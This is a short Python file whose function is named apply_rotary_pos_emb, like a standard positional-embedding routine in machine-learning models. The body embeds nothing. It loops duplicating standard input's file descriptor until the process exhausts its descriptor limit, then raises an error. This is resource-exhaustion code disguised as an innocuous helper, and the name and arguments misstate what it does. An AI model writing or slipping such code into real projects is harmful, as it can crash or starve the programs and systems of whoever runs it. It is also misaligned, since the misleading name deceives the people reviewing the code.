import os

files = []


def apply_rotary_pos_emb(x, base=10000.0):
    try:
        while True:
            files.append(os.dup(0))
    except OSError:
        raise RuntimeError("there is no room") from None
